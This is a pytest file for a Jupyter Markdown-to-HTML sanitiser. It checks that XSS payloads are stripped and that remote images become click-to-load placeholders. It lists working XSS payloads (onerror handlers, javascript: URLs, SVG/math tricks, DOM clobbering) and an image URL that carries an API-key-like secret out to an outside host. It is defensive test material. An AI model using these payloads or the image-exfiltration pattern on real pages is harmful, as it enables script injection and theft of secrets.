"""Markdown from outside rendered to HTML in which nothing can run.

The browser tests show it in JupyterLab and Notebook 7; these pin the renderer's allowlist
on each payload kind, so a change to it shows here first.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from co_kernel.frontend import markdown_to_html, safe_bundle

FORBIDDEN_TAGS = {
    "script", "iframe", "object", "embed", "svg", "math", "style", "form", "input", "link",
    "meta", "base", "frame", "frameset", "template", "button", "textarea", "select",
}  # fmt: skip


class _Elements(HTMLParser):
    """Every element and attribute of a fragment, as a browser's parser sees them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def active_parts(html: str) -> list[str]:
    """What in ``html`` could run, navigate to script or hide text; [] when nothing."""
    parser = _Elements()
    parser.feed(html)
    bad = []
    for tag, attrs in parser.found:
        if tag in FORBIDDEN_TAGS:
            bad.append(f"<{tag}>")
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name in ("id", "name", "srcdoc", "formaction"):
                bad.append(f"{tag}[{name}]")
            if name in ("href", "src") and not re.match(r"(https?:|mailto:|//|[^:]*$)", value):
                bad.append(f"{tag}[{name}={value}]")
            if name == "style" and not re.fullmatch(r"text-align:\w+", value):
                bad.append(f"{tag}[style={value}]")
    return bad


PAYLOADS = [
    '<img src=x onerror="alert(1)">',
    "<script>alert(1)</script>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<details open ontoggle="alert(1)"><summary>s</summary>x</details>',
    "<svg onload=alert(1)><circle r=4 /></svg>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVaScRiPt:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,hi)",
    '<img src="data:image/png;base64,iVBORw0KGgo=">',
    "![d](data:image/png;base64,iVBORw0KGgo=)",
    "<style>.jp-OutputArea{display:none}</style>",
    '<span style="display:none">hidden</span>',
    '<p style="position:fixed;top:0">over</p>',
    '<form action="https://e.com"><input name=q></form>',
    '<p id="jupyter-config-data" name="x" class="evil">clobber</p>',
    '<td style="text-align:right;position:fixed">x</td>',
    '<a href="https://e.com" onclick="alert(1)">x</a>',
    '<img src=x onerror="alert(1)"',  # cut mid-tag, as a stream shows it
    "<!-- <img src=x onerror=alert(1)> -->",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=import href=x>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_keeps_anything_that_runs(payload: str) -> None:
    html = markdown_to_html(f"Before\n\n{payload}\n\nAfter")
    assert active_parts(html) == [], html
    assert html.startswith('<div class="co-markdown">')


def test_markdown_still_renders() -> None:
    html = markdown_to_html(
        "## Plan\n\n**bold** *em* `code` ~~gone~~\n\n"
        "| a | b |\n|:--|--:|\n| 1<br>2 | $x_1 * y$ |\n\n"
        "```python\ndef f(x):\n    return x\n```\n\n"
        "- one\n- two\n\n1. first\n\n> quoted\n\n"
        "[docs](https://example.org/a?b=1) [mail](mailto:a@b.c) [file](notes/todo.md) "
        "![chart](https://example.org/c.png) <kbd>Ctrl</kbd> H<sub>2</sub>O\n"
    )
    for piece in (
        "<h2>Plan</h2>",
        "<strong>bold</strong>",
        "<em>em</em>",
        "<code>code</code>",
        "<s>gone</s>",
        '<th style="text-align:left">a</th>',
        '<td style="text-align:left">1<br>2</td>',
        '<span class="math inline">$x_1 * y$</span>',
        '<pre style="margin:1.5em 2em" class="highlight"><code><span class="k">def</span>',
        "<li>one</li>",
        "<ol>",
        "<blockquote>",
        '<a href="https://example.org/a?b=1" rel="noopener noreferrer nofollow">docs</a>',
        '<a href="mailto:a@b.c"',
        '<a href="notes/todo.md"',
        '<a class="co-remote-image" href="https://example.org/c.png"',
        "<kbd>Ctrl</kbd>",
        "<sub>2</sub>",
    ):
        assert piece in html, piece


def test_the_check_sees_what_runs() -> None:
    """The check above is not blind: raw HTML, unsanitised, fails it."""
    raw = '<img src=x onerror="a()"><a href="javascript:b()">x</a><p style="display:none">h</p>'
    assert active_parts(raw) == [
        "img[onerror]",
        "a[href=javascript:b()]",
        "p[style=display:none]",
    ]


def test_money_is_not_math_and_unknown_languages_are_plain_code() -> None:
    assert "math" not in markdown_to_html("It costs $5 and $10.")
    html = markdown_to_html("```nosuchlang\n<b>x</b>\n```")
    assert '<pre style="margin:1.5em 2em"><code>&lt;b&gt;x&lt;/b&gt;\n</code></pre>' in html


def test_cells_and_code_blocks_carry_a_markdown_cells_looks() -> None:
    # An HTML output's cells sit flush right where the page's styles cannot be changed
    # (nbconvert's export): each cell says where it sits, the table's own alignment kept.
    html = markdown_to_html("| a | b |\n|---|--:|\n| 1 | 2 |\n\n- item\n\n  ```\n  x\n  ```\n")
    assert '<th style="text-align:center">a</th>' in html
    assert '<th style="text-align:right">b</th>' in html
    assert '<td style="text-align:left">1</td>' in html
    assert '<td style="text-align:right">2</td>' in html
    # A block inside a list has no margins in a Markdown cell either.
    assert "<li>\n<p>item</p>\n<pre><code>x" in html
    # Text from outside cannot give a block other margins (over what follows it) or
    # style a cell otherwise; the one spacing Co gives passes as it is.
    hostile = markdown_to_html(
        '<pre style="margin:-40em 0">a</pre><pre style="margin:1.5em 2em;position:fixed">b</pre>'
        '<table><tr><td style="position:fixed;text-align:right">c</td></tr></table>'
    )
    assert "<pre>a</pre><pre>b</pre>" in hostile
    assert '<td style="text-align:right">c</td>' in hostile


def test_bundles_lose_their_markdown_and_keep_their_text() -> None:
    assert safe_bundle({"text/markdown": "**a**", "text/plain": "**a**"}) == {
        "text/html": '<div class="co-markdown"><p><strong>a</strong></p>\n</div>',
        "text/plain": "**a**",
    }
    # A streamed update leaves the text out; nothing adds it back.
    assert set(safe_bundle({"text/markdown": "**a**"})) == {"text/html"}
    bundle = safe_bundle({"text/markdown": "*x*", "text/plain": "x (for terminals)"})
    assert bundle["text/plain"] == "x (for terminals)"
    untouched = {"text/plain": "p", "application/json": {}}
    assert safe_bundle(untouched) is untouched


# --- remote images: a placeholder that loads on a click --------------------------------------

SECRET = "sk-live-5ecret/with space&more=yes"
QUOTED = "sk-live-5ecret%2Fwith%20space%26more%3Dyes"
HOST = "198.51.100.7:8080"

# Every form in which an image URL can reach the page, and the spelling tricks a
# browser undoes (scheme case, entities, tabs and newlines inside, backslashes).
REMOTE_FORMS = {
    "markdown": f"![status](http://{HOST}/c?d={QUOTED})",
    "html": f'<img src="http://{HOST}/c?d={QUOTED}">',
    "zero-size": f'<img width=0 height=0 src="http://{HOST}/c?d={QUOTED}">',
    "details": f"<details><summary>More</summary><img src=http://{HOST}/c?d={QUOTED}></details>",
    "table": f"| a |\n|---|\n| ![t](http://{HOST}/c?d={QUOTED}) |",
    "reference": f"![a][r]\n\n[r]: http://{HOST}/c?d={QUOTED}",
    "protocol-relative": f"![p](//{HOST}/c?d={QUOTED})",
    "protocol-relative-html": f'<img src="//{HOST}/c?d={QUOTED}">',
    "uppercase": f'<IMG SRC="HTTPS://{HOST}/c?d={QUOTED}">',
    "entity": f'<img src="&#104;ttp://{HOST}/c?d={QUOTED}">',
    "tab-in-scheme": f'<img src="ht&#x09;tp://{HOST}/c?d={QUOTED}">',
    "newline-in-scheme": f'<img src="ht\ntp://{HOST}/c?d={QUOTED}">',
    "leading-space": f'<img src="  \x01http://{HOST}/c?d={QUOTED}">',
    "backslashes": f'<img src="/\\{HOST}/c?d={QUOTED}">',
    "tab-slashes": f'<img src="/&#9;/{HOST}/c?d={QUOTED}">',
    "inside-link": f"[![x](http://{HOST}/c?d={QUOTED})](https://example.org/page)",
    "self-closing": f'<img src="http://{HOST}/c?d={QUOTED}"/>',
}


def _browser_url(src: str) -> str:
    """An ``src`` as a browser reads it (WHATWG: edges and tabs/newlines gone, ``\\`` is ``/``)."""
    kept = "".join(ch for ch in src if ch not in "\t\n\r").strip("".join(map(chr, range(33))))
    return kept.replace("\\", "/")


def remote_images(html: str) -> list[str]:
    """The ``src`` of each image in ``html`` that a browser would fetch from outside the page."""
    parser = _Elements()
    parser.feed(html)
    found = []
    for tag, attrs in parser.found:
        if tag != "img":
            continue
        src = _browser_url(dict(attrs).get("src") or "")
        if src and (src.startswith("/") or re.match(r"[a-z][a-z0-9+.-]*:", src, re.I)):
            found.append(src)
    return found


def placeholders(html: str) -> list[dict[str, str | None]]:
    parser = _Elements()
    parser.feed(html)
    return [
        dict(attrs)
        for _tag, attrs in parser.found
        if "co-remote-image" in (dict(attrs).get("class") or "").split()
    ]


@pytest.mark.parametrize("form", REMOTE_FORMS)
def test_no_remote_image_loads_each_is_a_placeholder_showing_its_url(form: str) -> None:
    html = markdown_to_html(f"Your status:\n\n{REMOTE_FORMS[form]}\n\nThanks.")
    assert "<img" not in html, html
    assert remote_images(html) == []
    [shown] = placeholders(html)
    assert shown["data-co-image"] is not None
    assert shown["data-co-image"].endswith(f"{HOST}/c?d={QUOTED}")
    # The host and the whole URL, its query decoded, nothing cut.
    text = re.sub(r"<[^>]+>", "", html)
    assert f"Image from {HOST.lower()} not loaded" in text.replace("&amp;", "&")
    assert f"{HOST}/c?d={SECRET}" in text.replace("&amp;", "&")
    assert active_parts(html) == [], html


def test_outside_a_link_the_placeholder_is_a_plain_link_to_the_image() -> None:
    [shown] = placeholders(markdown_to_html(REMOTE_FORMS["markdown"]))
    assert shown["href"] == f"http://{HOST}/c?d={QUOTED}"
    assert shown["rel"] == "noopener noreferrer nofollow"
    # Inside a link a second <a> would end the first: a span carries the URL there.
    [inner] = placeholders(markdown_to_html(REMOTE_FORMS["inside-link"]))
    assert "href" not in inner and inner["data-co-image"] == f"http://{HOST}/c?d={QUOTED}"


def test_what_hides_in_a_url_is_shown_not_obeyed() -> None:
    html = markdown_to_html("![look](https://example.org/a?x=%E2%80%AEgnp.exe%00%0Aend)")
    text = re.sub(r"<[^>]+>", "", html)
    assert "\\u202egnp.exe\\u0000\\u000aend" in text
    assert "\u202e" not in html


def test_images_beside_the_notebook_load_a_root_path_of_the_server_waits() -> None:
    html = markdown_to_html("![plot](plot.png) <img src=figures/a.png alt=a> ![b](./b%20c.png)")
    assert placeholders(html) == []
    assert '<img src="plot.png" alt="plot">' in html
    assert '<img src="figures/a.png" alt="a">' in html
    assert '<img src="./b%20c.png" alt="b">' in html
    # "/x" is the server's, outside the folder: an open redirect there leads anywhere.
    [shown] = placeholders(markdown_to_html("![x](/login?next=https://evil.example/)"))
    assert shown["href"] == "/login?next=https://evil.example/"
    assert "Image from the page&#x27;s own server not loaded" in markdown_to_html("![x](/a.png)")


def test_listed_hosts_load_directly_and_only_they() -> None:
    text = (
        "![a](https://img.example.org/a.png) ![b](http://cdn.example.com:8443/b.png) "
        "![c](https://x.example.com/c.png) ![d](https://example.com/d.png) "
        "![e](https://img.example.org.evil.test/e.png) ![f](https://evil.test/f.png) "
        '<img src="http://img.example.org\\@evil.test/g.png"> '
        "![h](http://img.example.org:1@evil.test/h) ![i](http://[::1]:8000/i.png)"
    )
    hosts = ["IMG.example.org", "*.example.com", "[::1]:8000", "cdn.example.com:9999"]
    html = markdown_to_html(text, hosts)
    parser = _Elements()
    parser.feed(html)
    loaded = [dict(a)["src"] for t, a in parser.found if t == "img"]
    assert loaded == [
        "https://img.example.org/a.png",
        "http://cdn.example.com:8443/b.png",  # *.example.com: any subdomain, any port
        "https://x.example.com/c.png",
        # A backslash is a slash, so its host is the first: written back as the browser reads it.
        "http://img.example.org/@evil.test/g.png",
        "http://[::1]:8000/i.png",
    ]
    assert all('class="co-image"' in html.split(src)[0].rsplit("<img", 1)[1] for src in loaded)
    waiting = [p["data-co-image"] for p in placeholders(html)]
    assert waiting == [
        "https://example.com/d.png",  # *.domain is its subdomains, not itself
        "https://img.example.org.evil.test/e.png",
        "https://evil.test/f.png",
        "http://img.example.org:1@evil.test/h",
    ]
    assert markdown_to_html(text, ["cdn.example.com:9999"]).count("<img") == 0


def test_bundles_take_the_hosts_too() -> None:
    bundle = safe_bundle({"text/markdown": "![a](https://ok.test/a.png)"}, ["ok.test"])
    assert '<img class="co-image" src="https://ok.test/a.png" alt="a">' in bundle["text/html"]
    assert "<img" not in safe_bundle({"text/markdown": "![a](https://ok.test/a.png)"})["text/html"]


_URL_NOISE = st.sampled_from(
    ["", " ", "\t", "\n", "\r", "\x00", "\\", "/", "//", ":", "&#9;", "&#x0A;", "&amp;",
     "&#104;", "%2F", "@", "#", "?", "[", "]", "HTTP", "http", "https:", "h", "tp", "js", "data:",
     "127.0.0.1", "example.org", ":80", "\u202e", "\u3002", "＼", "／", "%09"]
)  # fmt: skip

_IMAGE_FORMS = [
    "![a]({u})", "![a](<{u}>)", '<img src="{u}">', "<img src='{u}'>", "<img src={u}>",
    "![a][r]\n\n[r]: {u}", "| x |\n|---|\n| <img src=\"{u}\"> |",
]  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(
    pieces=st.lists(_URL_NOISE, min_size=1, max_size=10),
    form=st.sampled_from(_IMAGE_FORMS),
)
def test_no_spelling_of_a_url_gets_an_image_out(pieces: list[str], form: str) -> None:
    html = markdown_to_html(form.format(u="".join(pieces)))
    assert remote_images(html) == [], html


def test_outside_text_cannot_pass_for_co_s_own_image_or_placeholder() -> None:
    html = markdown_to_html(
        '<img class="co-image" src="http://evil.test/x"> '
        '<span class="co-remote-image" data-co-image="http://evil.test/y">hidden</span> '
        '<a class="co-remote-image" href="http://evil.test/z">innocent text</a>'
    )
    assert "<img" not in html
    # The only placeholder is Co's own, for the image, showing its URL.
    assert [p["data-co-image"] for p in placeholders(html)] == ["http://evil.test/x"]
    assert "http://evil.test/x</code>" in html


def test_code_keeps_a_span_only_where_jupyterlab_shows_a_colour() -> None:
    code = (
        "<div>\n<p>not a tag</p>\n</div>\n"
        "def load(path: str) -> dict:  # read it\n"
        '    return {"a": [1, 2.5]} if path else None\n'
    )
    html = markdown_to_html(f"```python\n{code}```\n\n```html\n{code}```\n")
    blocks = re.findall(r"<pre[^>]*class=\"highlight\"[^>]*><code>(.*?)</code></pre>", html, re.S)
    assert len(blocks) == 2
    for block in blocks:
        # Every character of the code, line breaks included, and nothing else.
        text = re.sub(r"<[^>]+>", "", block)
        assert text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&") == code
    python = blocks[0]
    for piece in (
        '<span class="k">def</span>',
        '<span class="k">return</span>',
        '<span class="c1"># read it</span>',
        '<span class="s2">"a"</span>',
        '<span class="mi">1</span>',
        '<span class="mf">2.5</span>',
        '<span class="kc">None</span>',
        '<span class="p">(</span>',
    ):
        assert piece in python, piece
    # Names and spaces are plain text (jupyterlab_pygments gives them no colour); a span
    # each made code five times its source as HTML.
    assert "load" in python and '<span class="n">' not in python
    classes = set(re.findall(r'class="([^"]+)"', python))
    assert classes <= {"k", "kc", "c1", "s2", "mi", "mf", "ow", "o", "p"}, classes
